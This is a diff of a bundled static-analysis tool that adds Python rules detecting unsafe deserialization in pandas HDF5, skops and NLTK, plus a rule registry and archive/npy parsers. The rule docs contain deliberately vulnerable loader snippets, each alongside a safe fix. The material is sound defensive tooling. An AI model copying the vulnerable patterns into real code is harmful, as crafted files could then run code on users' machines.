+  tags: ["security", "deserialization", "pandas", "hdf5", "pytables", "ml", "data", "pickle", "cwe-502"],
+  bundles: ["ml", "deserialization"],
+  banditIds: [],
+  similar: ["PYTHON-ML-SEC-003"],
+  prefilter: ["pandas", "read_hdf", "HDFStore"],
+  sinks: [{ call: ["pandas.read_hdf", "pandas.HDFStore"], check: check7, message: message13 }],
+  docs: {
+    summary: 'Detects `pandas.read_hdf` and opening an existing `pandas.HDFStore`: object-dtype data in HDF5 "fixed" format is stored with pickle and unpickled on read.',
+    description: 'pandas writes HDF5 through PyTables. In the default "fixed" format, columns of dtype `object` (and some index types) are serialized with pickle, and reading them back calls `pickle.loads`. The pandas documentation warns that loading such data from untrusted sources can be unsafe. This rule reports `pandas.read_hdf` and `pandas.HDFStore(...)` (except `mode="w"`, which truncates the file), also as `pandas.io.pytables.*`. It is medium severity and medium confidence: whether a given file contains pickled data depends on how it was written.',
+    securityImplications: "HDF5 files look like inert numeric data and are shared freely as datasets. A crafted file with a pickled object column runs code in the process that reads it.",
+    howToFix: 'Use Parquet or Feather to exchange tables. If HDF5 is required, write with `format="table"` and explicit non-object dtypes (strings as fixed-width), and read files only from trusted sources.',
+    fixHint: "Exchange tables as Parquet/Feather; read HDF5 only from trusted sources.",
+    vulnerableExample: [
+      "import pandas as pd",
+      "",
+      "def load_upload(path):",
+      '    return pd.read_hdf(path, "data")  # pickled object columns are unpickled'
+    ].join("\n"),
+    safeExample: [
+      "import pandas as pd",
+      "",
+      "def load_upload(path):",
+      "    return pd.read_parquet(path)  # columnar data only"
+    ].join("\n"),
+    detectionScope: 'Calls of `pandas.read_hdf` and `pandas.HDFStore` (also `pandas.io.pytables.read_hdf`/`HDFStore`) resolved through imports, aliases and rebinding; `HDFStore` with the constant mode `"w"` (keyword or position 1) is not reported. Writes (`to_hdf`) are not findings.',
+    references: [
+      { title: "pandas documentation: read_hdf (pickle warning)", url: "https://pandas.pydata.org/docs/reference/api/pandas.read_hdf.html" },
+      { title: "pandas documentation: HDFStore", url: "https://pandas.pydata.org/docs/reference/api/pandas.HDFStore.html" },
+      ...DESERIALIZATION_REFERENCES
+    ],
+    faq: [
+      {
+        question: "Our HDF5 files contain only floats. Is this a false positive?",
+        answer: "For files you write yourself, yes in practice: suppress it with that justification. The rule cannot see how a file was written, and a file from elsewhere may contain pickled columns."
+      }
+    ]
+  }
+});
+
+// src/rules/python/PYTHON-ML-SEC-011.ts
+var ADVICE8 = "Inspect `skops.io.get_untrusted_types(...)` and pass only the types you have reviewed as `trusted=[...]`.";
+var UNTRUSTED_TYPES = "skops.io.get_untrusted_types";
+var LISTS = /* @__PURE__ */ new Set(["list", "tuple", "none", "false"]);
+function isReviewedList(m, trusted) {
+  if (LISTS.has(trusted.type)) return true;
+  if (trusted.type !== "identifier") return false;
+  const bindings = m.model.lookup(m.model.text(trusted), m.scope, trusted);
+  return !!bindings?.length && bindings.every((b) => b.kind === "assignment" && b.value !== void 0 && LISTS.has(b.value.type));
+}
+function check8(m) {
+  const trusted = m.args.find("trusted", 1);
+  if (!trusted) return null;
+  if (trusted.type === "true") {
+    return { message: `${spelled(m)} with \`trusted=True\` instantiates every type the file names, which lets a crafted file run arbitrary code. ${ADVICE8}` };
+  }
+  if (isReviewedList(m, trusted)) return null;
+  if (namesOf(m, trusted).includes(`${UNTRUSTED_TYPES}()`)) {
+    return {
+      message: `${spelled(m)} trusts the result of \`get_untrusted_types\`, i.e. every type the file itself asks for: that disables skops' protection and lets a crafted file run arbitrary code. ${ADVICE8}`
+    };
+  }
+  return {
+    confidence: "medium",
+    message: `${spelled(m)} takes \`trusted\` from a value the analysis cannot check; if it includes types from the file itself, a crafted file can run arbitrary code. ${ADVICE8}`
+  };
+}
+var PYTHON_ML_SEC_011_default = defineRule({
+  id: "PYTHON-ML-SEC-011",
+  name: "skops Load Trusting All Types",
+  language: "python",
+  severity: "high",
+  confidence: "high",
+  precision: "high",
+  cwe: ["CWE-502"],
+  owasp: ["A08:2021"],
+  compliance: DESERIALIZATION_COMPLIANCE,
+  tags: ["security", "deserialization", "skops", "scikit-learn", "ml", "model", "cwe-502"],
+  bundles: ["ml", "deserialization"],
+  banditIds: [],
+  similar: ["PYTHON-ML-SEC-004"],
+  prefilter: ["skops"],
+  sinks: [{ call: ["skops.io.load", "skops.io.loads"], check: check8, message: (m) => `${spelled(m)} may trust types chosen by the file. ${ADVICE8}` }],
+  docs: {
+    summary: "Detects `skops.io.load`/`loads` with `trusted=True` or with the file's own `get_untrusted_types()` result, which defeats skops' type checks.",
+    description: "skops' persistence format exists to load scikit-learn models without pickle's risks: it refuses to instantiate types that are not on a safe list unless the caller trusts them explicitly. `trusted=True` (skops < 0.10) trusts everything, and the common shortcut `trusted=get_untrusted_types(file=path)` trusts exactly the types the file asks for, which is the same thing: a crafted file can name functions such as `builtins.exec` or `os.system` and have them called. This rule reports those two patterns, and a `trusted` value it cannot inspect at medium confidence. A literal list of type names (in the call or bound to a name) is treated as a reviewed allowlist.",
+    securityImplications: "Models shared on hubs in skops format are considered safe to open. With the check disabled, opening one runs the attacker's chosen callables in the loading process.",
+    howToFix: "Call `skops.io.get_untrusted_types(file=path)`, review the list, and pass only the reviewed type names as a literal `trusted=[...]`. Refuse files that ask for anything else.",
+    fixHint: "Pass a reviewed literal list to trusted=, never True or the file's own get_untrusted_types().",
+    vulnerableExample: [
+      "import skops.io as sio",
+      "",
+      "def load(path):",
+      "    return sio.load(path, trusted=sio.get_untrusted_types(file=path))  # trusts whatever the file wants"
+    ].join("\n"),
+    safeExample: [
+      "import skops.io as sio",
+      "",
+      'REVIEWED = ["sklearn.ensemble._forest.RandomForestClassifier"]',
+      "",
+      "def load(path):",
+      "    unknown = set(sio.get_untrusted_types(file=path)) - set(REVIEWED)",
+      "    if unknown:",
+      '        raise ValueError(f"unreviewed types: {sorted(unknown)}")',
+      "    return sio.load(path, trusted=REVIEWED)"
+    ].join("\n"),
+    detectionScope: "Calls of `skops.io.load` and `skops.io.loads` with `trusted` (keyword or position 1) literally `True`, bound to a call of `skops.io.get_untrusted_types` (directly or through a variable), or a value the analysis cannot inspect (medium confidence). No `trusted`, `None`, `False` and literal lists (also through a name bound only to a literal list) are not reported.",
+    references: [
+      { title: "skops documentation: secure persistence", url: "https://skops.readthedocs.io/en/stable/persistence.html" },
+      { title: "skops API: skops.io.load", url: "https://skops.readthedocs.io/en/stable/modules/classes.html#skops.io.load" },
+      ...DESERIALIZATION_REFERENCES.slice(0, 3)
+    ],
+    faq: [
+      {
+        question: "Why is `trusted=get_untrusted_types(file=path)` a problem? It is in many examples.",
+        answer: "It trusts the list the file provides, so a malicious file trusts itself. Review the list once and keep the reviewed names in code."
+      }
+    ]
+  }
+});
+
+// src/rules/python/PYTHON-ML-SEC-012.ts
+var ADVICE9 = "Upgrade to NLTK >= 3.9 and use its pickle-free resources (punkt_tab, averaged_perceptron_tagger_eng); load only resources from a trusted nltk_data directory.";
+var PICKLE_EXTENSIONS = /\.(pickle|pkl)$/i;
+function check9(m) {
+  const format = m.args.find("format", 1);
+  const formatValue = format && m.model.constantString(format, m.scope);
+  if (format && formatValue === void 0) {
+    return { confidence: "low", message: `${spelled(m)} with a non-constant \`format\`: when it is "pickle" (or "auto" on a .pickle resource) the resource is unpickled. ${ADVICE9}` };
+  }
+  if (formatValue === "pickle") return { message: message14(m) };
+  if (formatValue !== void 0 && formatValue !== "auto") return null;
+  const resource = m.args.find("resource_url", 0);
+  if (!resource) return m.args.mayBeHidden("resource_url", 0) ? { confidence: "low", message: message14(m) } : null;
+  const url = m.model.constantString(resource, m.scope);
+  if (url === void 0) {
+    return { confidence: "low", message: `${spelled(m)} loads a resource named at run time; resources ending in .pickle are unpickled. ${ADVICE9}` };
+  }
+  return PICKLE_EXTENSIONS.test(url) ? { message: message14(m) } : null;
+}
+function message14(m) {
+  return `${spelled(m)} unpickles a .pickle resource: before NLTK 3.9 with no restriction at all (CVE-2024-39705), since then through a restricted unpickler. A tampered nltk_data package can run code. ${ADVICE9}`;
+}
+var PYTHON_ML_SEC_012_default = defineRule({
+  id: "PYTHON-ML-SEC-012",
+  name: "NLTK Loads Pickled Resources",
+  language: "python",
+  severity: "medium",
+  confidence: "high",
+  precision: "medium",
+  cwe: ["CWE-502"],
+  owasp: ["A08:2021"],
+  compliance: DESERIALIZATION_COMPLIANCE,
+  tags: ["security", "deserialization", "nltk", "nlp", "ml", "pickle", "cwe-502"],
+  bundles: ["ml", "deserialization"],
+  banditIds: [],
+  similar: ["PYTHON-LANG-SEC-040", "PYTHON-ML-SEC-004"],
+  prefilter: ["nltk"],
+  sinks: [{ call: ["nltk.data.load"], check: check9, message: message14 }],
+  docs: {
+    summary: 'Detects `nltk.data.load` of pickled resources (`.pickle` files or `format="pickle"`), which unpickles data from the nltk_data directories.',
+    description: '`nltk.data.load` picks a loader from the `format` argument or, by default, from the resource\'s file extension. For `.pickle` resources (the classic punkt tokenizers and taggers) it unpickles the file. Up to NLTK 3.8.1 this was a plain `pickle.load`, so a tampered data package executed code (CVE-2024-39705); NLTK 3.9 switched to a restricted unpickler and pickle-free replacements. This rule reports `nltk.data.load` with `format="pickle"`, or with the default format and a constant resource name ending in `.pickle`/`.pkl` (medium severity), and resources or formats named at run time at low confidence.',
+    securityImplications: "NLTK resources are downloaded from the internet into shared directories (`~/nltk_data`, `/usr/share/nltk_data`, paths from `NLTK_DATA`). Anyone who can write there, or tamper with the download, controls the unpickled bytes.",
+    howToFix: "Upgrade to NLTK 3.9 or later and use the pickle-free resources (`punkt_tab`, `averaged_perceptron_tagger_eng`, `nltk.sent_tokenize`/`pos_tag`, which load them). Keep nltk_data in a directory only your deployment can write, and never point `nltk.data.path` at user-controlled locations.",
+    fixHint: "Use NLTK >= 3.9 pickle-free resources (punkt_tab) instead of loading .pickle files.",
+    vulnerableExample: [
+      "import nltk",
+      "",
+      'tokenizer = nltk.data.load("tokenizers/punkt/english.pickle")  # unpickles the resource'
+    ].join("\n"),
+    safeExample: [
+      "import nltk",
+      "",
+      "sentences = nltk.sent_tokenize(text)  # NLTK >= 3.9 loads punkt_tab, no pickle"
+    ].join("\n"),
+    detectionScope: 'Calls of `nltk.data.load` (also `from nltk.data import load`, aliases, rebinding) with `format` (keyword or position 1) constant "pickle", or "auto"/missing with a constant `resource_url` ending in .pickle/.pkl; a non-constant format or resource is reported at low confidence. Other formats (text, yaml, json, cfg, ...) are not reported. Internal NLTK loaders that unpickle model files are not covered.',
+    references: [
+      { title: "NLTK documentation: nltk.data.load", url: "https://www.nltk.org/api/nltk.data.html#nltk.data.load" },
+      { title: "CVE-2024-39705 / GHSA-cgvx-9447-vcch: NLTK unsafe deserialization", url: "https://github.com/advisories/GHSA-cgvx-9447-vcch" },
+      { title: "nltk/nltk#3266: remote code execution through pickled resources", url: "https://github.com/nltk/nltk/issues/3266" },
+      ...DESERIALIZATION_REFERENCES.slice(0, 3)
+    ],
+    faq: [
+      {
+        question: "We are on NLTK 3.9+. Is this still a problem?",
+        answer: "Much less: the restricted unpickler refuses classes and functions, which is why the severity is medium. Restricted unpicklers have been bypassed before, and the pickle-free resources make the question moot."
+      }
+    ]
+  }
+});
+
+// src/rules/registry.ts
+var PYTHON_RULES = [
+  PYTHON_LANG_SEC_040_default,
+  PYTHON_LANG_SEC_041_default,
+  PYTHON_LANG_SEC_042_default,
+  PYTHON_LANG_SEC_043_default,
+  PYTHON_LANG_SEC_044_default,
+  PYTHON_LANG_SEC_045_default,
+  PYTHON_LANG_SEC_046_default,
+  PYTHON_LANG_SEC_073_default,
+  PYTHON_ML_SEC_001_default,
+  PYTHON_ML_SEC_002_default,
+  PYTHON_ML_SEC_003_default,
+  PYTHON_ML_SEC_004_default,
+  PYTHON_ML_SEC_005_default,
+  PYTHON_ML_SEC_006_default,
+  PYTHON_ML_SEC_007_default,
+  PYTHON_ML_SEC_008_default,
+  PYTHON_ML_SEC_009_default,
+  PYTHON_ML_SEC_010_default,
+  PYTHON_ML_SEC_011_default,
+  PYTHON_ML_SEC_012_default
+].sort((a, b) => a.id.localeCompare(b.id));
+var BUNDLE_DESCRIPTIONS = {
+  all: "every Python rule",
+  deserialization: "every rule that reports a deserialization sink",
+  lang: "the Python standard library and general-purpose serialization libraries",
+  ml: "machine-learning and data-science libraries that unpickle model and data files"
+};
+function pythonBundles() {
+  const names = new Set(Object.keys(BUNDLE_DESCRIPTIONS));
+  for (const r of PYTHON_RULES) for (const b of r.bundles) names.add(b);
+  return [...names].sort();
+}
+function resolveRulesets(specs, extraRules = []) {
+  const all = [...PYTHON_RULES, ...extraRules];
+  if (!specs.length) return { ok: true, rules: all };
+  const chosen = /* @__PURE__ */ new Map();
+  for (const raw of specs) {
+    const spec = raw.trim();
+    const [lang, name2] = spec.includes("/") ? spec.split("/", 2) : ["python", spec];
+    if (lang.toLowerCase() !== "python") {
+      return { ok: false, error: `unknown ruleset language "${lang}" in "${spec}": only "python/..." rulesets exist` };
+    }
+    const byId = all.find((r) => r.id.toUpperCase() === name2.toUpperCase());
+    if (byId) {
+      chosen.set(byId.id, byId);
+      continue;
+    }
+    const bundle = name2.toLowerCase();
+    const members = bundle === "all" ? all : all.filter((r) => r.bundles.includes(bundle));
+    if (!members.length && !Object.hasOwn(BUNDLE_DESCRIPTIONS, bundle)) {
+      const candidates = [...all.map((r) => `python/${r.id}`), ...pythonBundles().map((b) => `python/${b}`)];
+      const suggestion = closest(`python/${name2}`, candidates);
+      return {
+        ok: false,
+        error: `unknown ruleset "${spec}"${suggestion ? `; did you mean "${suggestion}"?` : ""} (see: pathfinder rules list)`
+      };
+    }
+    for (const r of members) chosen.set(r.id, r);
+  }
+  return { ok: true, rules: [...chosen.values()].sort((a, b) => a.id.localeCompare(b.id)) };
+}
+function closest(input, candidates) {
+  let best;
+  let bestDistance = Infinity;
+  for (const c of candidates) {
+    const d = editDistance(input.toLowerCase(), c.toLowerCase());
+    if (d < bestDistance) [best, bestDistance] = [c, d];
+  }
+  return best !== void 0 && bestDistance <= Math.max(3, Math.floor(input.length / 3)) ? best : void 0;
+}
+function editDistance(a, b) {
+  let prev = Array.from({ length: b.length + 1 }, (_, i2) => i2);
+  for (let i2 = 1; i2 <= a.length; i2++) {
+    const cur = [i2];
+    for (let j = 1; j <= b.length; j++) {
+      cur[j] = Math.min(prev[j] + 1, cur[j - 1] + 1, prev[j - 1] + (a[i2 - 1] === b[j - 1] ? 0 : 1));
+    }
+    prev = cur;
+  }
+  return prev[b.length];
+}
+function ruleMeta(rule) {
+  const { prefilter: _prefilter, sinks: _sinks, ...meta } = rule;
+  return meta;
+}
+function ruleSetSpec(rulesets, settings = {}) {
+  const selection = resolveRulesets(rulesets);
+  if (!selection.ok) return selection;
+  if (!selection.rules.length) return { ok: false, error: `no rules to run: ${rulesets.join(", ")} holds no rules yet` };
+  const disabled = new Set((settings.disable ?? []).map((id) => id.toUpperCase()));
+  const ruleIds = selection.rules.map((r) => r.id).filter((id) => !disabled.has(id.toUpperCase()));
+  if (!ruleIds.length) {
+    const what = rulesets.length ? `the selected rulesets (${rulesets.join(", ")})` : "the registry";
+    const by = settings.source ? `"disable" in ${settings.source}` : `"disable"`;
+    return { ok: false, error: `no rules to run: every rule of ${what} is disabled by ${by}` };
+  }
+  return { ok: true, spec: { ruleIds, ...settings.customizations ? { customizations: settings.customizations } : {} } };
+}
+function buildRuleSet(spec) {
+  return spec.ruleIds.map((id) => {
+    const rule = PYTHON_RULES.find((r) => r.id === id);
+    if (!rule) throw new Error(`unknown rule ID "${id}" in rule set`);
+    return customized(rule, spec.customizations?.[id]);
+  });
+}
+function customized(rule, change) {
+  const extra = [...new Set((change?.extraSinks ?? []).map(canonicalName))];
+  const severity = change?.severity;
+  if (!extra.length && !severity) return rule;
+  let sinks = extra.length ? [...rule.sinks, configuredSink(rule, extra)] : rule.sinks;
+  if (severity) sinks = sinks.map((s) => withSeverity(s, severity));
+  const prefilter = [.../* @__PURE__ */ new Set([...rule.prefilter, ...extra.map((name2) => name2.slice(name2.lastIndexOf(".") + 1))])];
+  return { ...rule, severity: severity ?? rule.severity, prefilter, sinks };
+}
+function configuredSink(rule, names) {
+  const message15 = (m) => {
+    const spelled2 = m.calleeText === m.target ? code(m.target) : `${code(m.calleeText)} (${m.target})`;
+    const sink = `configured as a deserialization sink of ${rule.id} (${rule.name})`;
+    switch (m.via) {
+      case "subclass":
+        return `${code(m.subclass.name)} subclasses ${code(m.target)}, ${sink}: never pass it data from an untrusted source.`;
+      case "reference":
+        return `${spelled2}, ${sink}, is passed as a callable: every value it is applied to is deserialized.`;
+      default:
+        return `${spelled2} is ${sink}: never pass it data from an untrusted source.`;
+    }
+  };
+  return { call: names, subclasses: true, references: true, message: message15 };
+}
+function withSeverity(spec, severity) {
+  const check10 = spec.check;
+  return {
+    ...spec,
+    check: (m) => {
+      const outcome = check10 ? check10(m) : {};
+      return outcome === null ? null : { ...outcome, severity };
+    }
+  };
 }
 
 // src/project/python-parser.ts
@@ -7204,8 +9017,8 @@ var Module2 = (() => {
     var moduleRtn;
     var Module = moduleArg;
     var readyPromiseResolve, readyPromiseReject;
-    var readyPromise = new Promise((resolve7, reject) => {
-      readyPromiseResolve = resolve7;
+    var readyPromise = new Promise((resolve9, reject) => {
+      readyPromiseResolve = resolve9;
       readyPromiseReject = reject;
     });
     var ENVIRONMENT_IS_WEB = typeof window == "object";
@@ -7288,13 +9101,13 @@ var Module2 = (() => {
         }
         readAsync = /* @__PURE__ */ __name(async (url) => {
           if (isFileURI(url)) {
-            return new Promise((resolve7, reject) => {
+            return new Promise((resolve9, reject) => {
               var xhr = new XMLHttpRequest();
               xhr.open("GET", url, true);
               xhr.responseType = "arraybuffer";
               xhr.onload = () => {
                 if (xhr.status == 200 || xhr.status == 0 && xhr.response) {
-                  resolve7(xhr.response);
+                  resolve9(xhr.response);
                   return;
                 }
                 reject(xhr.status);
@@ -7518,10 +9331,10 @@ var Module2 = (() => {
       __name(receiveInstantiationResult, "receiveInstantiationResult");
       var info2 = getWasmImports();
       if (Module["instantiateWasm"]) {
-        return new Promise((resolve7, reject) => {
+        return new Promise((resolve9, reject) => {
           Module["instantiateWasm"](info2, (mod, inst) => {
             receiveInstance(mod, inst);
-            resolve7(mod.exports);
+            resolve9(mod.exports);
           });
         });
       }
@@ -7645,8 +9458,8 @@ var Module2 = (() => {
         return UTF8ArrayToString(binary2, offset - len, len);
       }
       __name(getString, "getString");
-      function failIf(condition, message2) {
-        if (condition) throw new Error(message2);
+      function failIf(condition, message15) {
+        if (condition) throw new Error(message15);
       }
       __name(failIf, "failIf");
       var name2 = "dylink.0";
@@ -8467,8 +10280,8 @@ var Module2 = (() => {
     _fd_write.sig = "iippp";
     function _tree_sitter_log_callback(isLexMessage, messageAddress) {
       if (Module.currentLogCallback) {
-        const message2 = UTF8ToString(messageAddress);
-        Module.currentLogCallback(message2, isLexMessage !== 0);
+        const message15 = UTF8ToString(messageAddress);
+        Module.currentLogCallback(message15, isLexMessage !== 0);
       }
     }
     __name(_tree_sitter_log_callback, "_tree_sitter_log_callback");
@@ -9148,9 +10961,9 @@ async function inProcessAnalyzer(rules) {
     }
   };
 }
-function analyzeSafely(run2, path) {
+function analyzeSafely(run3, path) {
   try {
-    return run2();
+    return run3();
   } catch (e) {
     return {
       findings: [],
@@ -9160,11 +10973,6106 @@ function analyzeSafely(run2, path) {
   }
 }
 
+// src/artifacts/containers/bytes.ts
+function u16le(b, at) {
+  return b[at] | b[at + 1] << 8;
+}
+function u32le(b, at) {
+  return (b[at] | b[at + 1] << 8 | b[at + 2] << 16) + b[at + 3] * 16777216;
+}
+function u64le(b, at) {
+  const high = u32le(b, at + 4);
+  if (high >= 2097152) return Number.POSITIVE_INFINITY;
+  return high * 4294967296 + u32le(b, at);
+}
+function i32le(b, at) {
+  return b[at] | b[at + 1] << 8 | b[at + 2] << 16 | b[at + 3] << 24;
+}
+function i64le(b, at) {
+  const low = u32le(b, at);
+  const high = i32le(b, at + 4);
+  const value = high * 4294967296 + low;
+  return Number.isSafeInteger(value) ? value : Number.NaN;
+}
+function startsWith(b, prefix, at = 0) {
+  if (b.length < at + prefix.length) return false;
+  for (let i2 = 0; i2 < prefix.length; i2++) if (b[at + i2] !== prefix[i2]) return false;
+  return true;
+}
+function ascii(text) {
+  return Array.from(text, (c) => c.charCodeAt(0));
+}
+function latin1(b) {
+  let out2 = "";
+  for (let i2 = 0; i2 < b.length; i2 += 4096) {
+    out2 += String.fromCharCode(...b.subarray(i2, Math.min(b.length, i2 + 4096)));
+  }
+  return out2;
+}
+var utf8Decoder = new TextDecoder("utf-8", { fatal: false });
+function utf8(b) {
+  return utf8Decoder.decode(b);
+}
+function concatBytes(chunks, total) {
+  const size = total ?? chunks.reduce((n, c) => n + c.length, 0);
+  const out2 = new Uint8Array(size);
+  let at = 0;
+  for (const c of chunks) {
+    const take = Math.min(c.length, size - at);
+    out2.set(c.subarray(0, take), at);
+    at += take;
+    if (at >= size) break;
+  }
+  return out2;
+}
+function lastIndexOf(hay, needle, from = hay.length - needle.length) {
+  outer: for (let i2 = Math.min(from, hay.length - needle.length); i2 >= 0; i2--) {
+    for (let j = 0; j < needle.length; j++) if (hay[i2 + j] !== needle[j]) continue outer;
+    return i2;
+  }
+  return -1;
+}
+function indexOf(hay, needle, from = 0) {
+  outer: for (let i2 = Math.max(0, from); i2 + needle.length <= hay.length; i2++) {
+    for (let j = 0; j < needle.length; j++) if (hay[i2 + j] !== needle[j]) continue outer;
+    return i2;
+  }
+  return -1;
+}
+
+// src/artifacts/containers/sources.ts
+function memorySource(bytes) {
+  return {
+    size: bytes.length,
+    async read(offset, length) {
+      const start2 = Math.max(0, Math.min(offset, bytes.length));
+      return bytes.subarray(start2, Math.min(bytes.length, start2 + Math.max(0, length)));
+    }
+  };
+}
+function sliceSource(parent, offset, size) {
+  const start2 = Math.max(0, Math.min(offset, parent.size));
+  const length = Math.max(0, Math.min(size, parent.size - start2));
+  return {
+    size: length,
+    async read(at, want) {
+      if (at >= length || want <= 0) return new Uint8Array(0);
+      return parent.read(start2 + at, Math.min(want, length - at));
+    }
+  };
+}
+async function readRange(source, offset, length) {
+  const want = Math.max(0, Math.min(length, source.size - offset));
+  if (want === 0) return new Uint8Array(0);
+  const first = await source.read(offset, want);
+  if (first.length >= want) return first.length === want ? first : first.subarray(0, want);
+  const out2 = new Uint8Array(want);
+  out2.set(first, 0);
+  let got = first.length;
+  while (got < want) {
+    const more = await source.read(offset + got, want - got);
+    if (more.length === 0) break;
+    out2.set(more.subarray(0, want - got), got);
+    got += more.length;
+  }
+  return got === want ? out2 : out2.subarray(0, got);
+}
+
+// src/artifacts/containers/npy.ts
+var MAGIC = [147, ...ascii("NUMPY")];
+var MAX_HEADER = 1 << 20;
+function looksLikeNpy(head) {
+  return startsWith(head, MAGIC);
+}
+async function readNpyHeader(source) {
+  const prefix = await readRange(source, 0, 12);
+  if (!startsWith(prefix, MAGIC) || prefix.length < 10) return { ok: false, error: "not a .npy file" };
+  const major = prefix[6];
+  const minor = prefix[7];
+  if (major < 1 || major > 3) return { ok: false, error: `unsupported .npy format version ${major}.${minor}` };
+  const lengthSize = major === 1 ? 2 : 4;
+  if (prefix.length < 8 + lengthSize) return { ok: false, error: ".npy header is truncated" };
+  const headerLength = major === 1 ? u16le(prefix, 8) : u32le(prefix, 8);
+  const headerStart = 8 + lengthSize;
+  if (headerLength > MAX_HEADER) return { ok: false, error: `.npy header of ${headerLength} bytes is implausibly large` };
+  if (headerStart + headerLength > source.size) return { ok: false, error: ".npy header is truncated" };
+  const raw = await readRange(source, headerStart, headerLength);
+  const text = major === 3 ? utf8(raw) : latin1(raw);
+  const descr = extractValue(text, "descr");
+  if (descr === void 0) return { ok: false, error: ".npy header has no 'descr'" };
+  const shapeText = extractValue(text, "shape") ?? "()";
+  const shape = [...shapeText.matchAll(/\d+/g)].map((m) => Number(m[0]));
+  return {
+    ok: true,
+    header: {
+      version: `${major}.${minor}`,
+      descr,
+      fortranOrder: /['"]fortran_order['"]\s*:\s*True/.test(text),
+      shape,
+      hasObject: descrHasObject(descr),
+      dataOffset: headerStart + headerLength
+    }
+  };
+}
+function extractValue(text, key) {
+  const match = new RegExp(`['"]${key}['"]\\s*:\\s*`).exec(text);
+  if (!match) return void 0;
+  const start2 = match.index + match[0].length;
+  const open3 = text[start2];
+  if (open3 === "'" || open3 === '"') {
+    const end = text.indexOf(open3, start2 + 1);
+    return end < 0 ? void 0 : text.slice(start2 + 1, end);
+  }
+  if (open3 === "[" || open3 === "(") {
+    let depth = 0;
+    for (let i2 = start2; i2 < text.length; i2++) {
+      const c = text[i2];
+      if (c === "[" || c === "(") depth++;
+      else if (c === "]" || c === ")") {
+        depth--;
+        if (depth === 0) return text.slice(start2, i2 + 1);
+      }
+    }
+    return void 0;
+  }
+  return /^[^,}]*/.exec(text.slice(start2))?.[0]?.trim();
+}
+function descrHasObject(descr) {
+  if (!descr.startsWith("[")) return /^[<>|=]?O\d*$/.test(descr);
+  return [...descr.matchAll(/['"]([<>|=]?O\d*)['"]/g)].length > 0;
+}
+
+// src/artifacts/containers/tar.ts
+var BLOCK = 512;
+var MAX_NAME_RECORD = 1 << 16;
+function looksLikeTar(head) {
+  return head.length >= BLOCK && headerChecksumOk(head.subarray(0, BLOCK));
+}
+function headerChecksumOk(header) {
+  const stored = parseOctal(header.subarray(148, 156));
+  if (stored === null) return false;
+  let sum = 0;
+  for (let i2 = 0; i2 < BLOCK; i2++) sum += i2 >= 148 && i2 < 156 ? 32 : header[i2];
+  return sum === stored;
+}
+function parseOctal(field) {
+  const text = latin1(field).replace(/\0.*$/s, "").trim();
+  if (!/^[0-7]+$/.test(text)) return null;
+  return parseInt(text, 8);
+}
+function parseSize(field) {
+  if ((field[0] & 128) !== 0) {
+    let value = 0;
+    for (let i2 = 1; i2 < field.length; i2++) value = value * 256 + field[i2];
+    return Number.isSafeInteger(value) ? value : null;
+  }
+  return parseOctal(field);
+}
+function cString(field) {
+  const end = field.indexOf(0);
+  return utf8(end < 0 ? field : field.subarray(0, end));
+}
+async function listTar(source, maxEntries) {
+  const listing = { entries: [], warnings: [] };
+  let at = 0;
+  let pendingName;
+  while (at + BLOCK <= source.size) {
+    const header = await readRange(source, at, BLOCK);
+    if (header.every((b) => b === 0)) break;
+    if (!headerChecksumOk(header)) {
+      listing.warnings.push(`tar header at offset ${at} has a bad checksum; listing stopped`);
+      break;
+    }
+    const size = parseSize(header.subarray(124, 136));
+    if (size === null) {
+      listing.warnings.push(`tar header at offset ${at} has an unreadable size; listing stopped`);
+      break;
+    }
+    const type = String.fromCharCode(header[156]) || "0";
+    const dataOffset = at + BLOCK;
+    if (dataOffset + size > source.size) listing.warnings.push(`tar member at offset ${at} is truncated`);
+    if (type === "L" || type === "x") {
+      const record = await readRange(source, dataOffset, Math.min(size, MAX_NAME_RECORD));
+      pendingName = type === "L" ? cString(record) : paxPath(utf8(record)) ?? pendingName;
+    } else if (type !== "g") {
+      const prefix = latin1(header.subarray(257, 263)).startsWith("ustar") ? cString(header.subarray(345, 500)) : "";
+      const base = cString(header.subarray(0, 100));
+      const name2 = pendingName ?? (prefix ? `${prefix}/${base}` : base);
+      pendingName = void 0;
+      if (listing.entries.length >= maxEntries) {
+        listing.warnings.push(`tar has more than ${maxEntries} members; the rest were not inspected`);
+        break;
+      }
+      listing.entries.push({ name: name2, dataOffset, size: Math.max(0, Math.min(size, source.size - dataOffset)), type: type === "\0" ? "0" : type });
+    }
+    at = dataOffset + Math.ceil(size / BLOCK) * BLOCK;
+  }
+  return listing;
+}
+function paxPath(text) {
+  for (const line of text.split("\n")) {
+    const match = /^\d+ path=(.*)$/s.exec(line);
+    if (match) return match[1];
+  }
+  return void 0;
+}
+
+// src/artifacts/containers/sniff.ts
+var SNIFF_BYTES = 512;
+function sniffFormat(head) {
+  if (looksLikeNpy(head)) return "npy";
+  if (startsWith(head, ascii("PK")) || startsWith(head, ascii("PK"))) return "zip";
+  if (startsWith(head, [31, 139])) return "gzip";
+  if (startsWith(head, ascii("BZh")) && head.length > 3 && head[3] >= 49 && head[3] <= 57) return "bz2";
+  if (startsWith(head, [253, 55, 122, 88, 90, 0])) return "xz";
+  if (startsWith(head, [55, 122, 188, 175, 39, 28])) return "7z";
+  if (startsWith(head, ascii("Rar!\x07"))) return "rar";
+  if (startsWith(head, [40, 181, 47, 253])) return "zstd";
+  if (startsWith(head, [4, 34, 77, 24])) return "lz4";
+  if (looksLikeZlib(head)) return "zlib";
+  if (looksLikeLzmaAlone(head)) return "lzma";
+  if (startsWith(head, ascii("ZF")) && head.length >= 22 && head[21] === 120) return "joblib-zfile";
+  if (looksLikeTar(head)) return "tar";
+  return "unknown";
+}
+function looksLikeZlib(head) {
+  if (head.length < 2 || head[0] !== 120) return false;
+  return (head[0] << 8 | head[1]) % 31 === 0;
+}
+function looksLikeLzmaAlone(head) {
+  if (head.length < 13 || head[0] !== 93) return false;
+  const dict = (head[1] | head[2] << 8 | head[3] << 16 | head[4] << 24) >>> 0;
+  const sizeKnown = !head.subarray(5, 13).every((b) => b === 255);
+  return dict >= 1 << 12 && dict <= 1 << 30 && (!sizeKnown || head[12] === 0);
+}
+var ARTIFACT_EXTENSIONS = [
+  ".pkl",
+  ".pickle",
+  ".pck",
+  ".pcl",
+  ".p",
+  ".pt",
+  ".pth",
+  ".bin",
+  ".ckpt",
+  ".joblib",
+  ".jbl",
+  ".npy",
+  ".npz",
+  ".dill",
+  ".sav",
+  ".model",
+  ".mar",
+  ".pkl.gz",
+  ".pkl.bz2",
+  ".pkl.xz",
+  ".pkl.lzma",
+  ".pkl.z",
+  ".gz",
+  ".bz2",
+  ".xz",
